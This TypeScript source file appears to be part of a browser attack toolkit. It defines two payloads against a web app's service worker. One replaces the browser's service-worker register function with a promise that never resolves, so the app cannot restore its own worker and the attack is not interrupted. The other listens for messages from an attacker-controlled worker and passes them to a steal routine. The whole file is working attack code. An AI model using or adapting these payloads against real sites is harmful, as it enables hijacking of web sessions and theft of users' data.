import type { Payload } from "../attack.js";

declare global {
  /** The browser's original `register`, where {@link withoutRegister} has replaced it. */
  var genuineRegister: ServiceWorkerContainer["register"];
}

/**
 * Prevents the app from registering its worker again. It must not notice that its worker is gone: it would navigate away for a
 * new session and end the payload.
 */
export const withoutRegister: Payload = () => {
  globalThis.genuineRegister = ServiceWorkerContainer.prototype.register;
  ServiceWorkerContainer.prototype.register = () => new Promise(() => {});
};

/** Listens to the messages of the attacker's worker. */
export const listen: Payload = (it) => {
  navigator.serviceWorker.addEventListener("message", ({ data }) => it.steal(data));
  navigator.serviceWorker.startMessages();
};
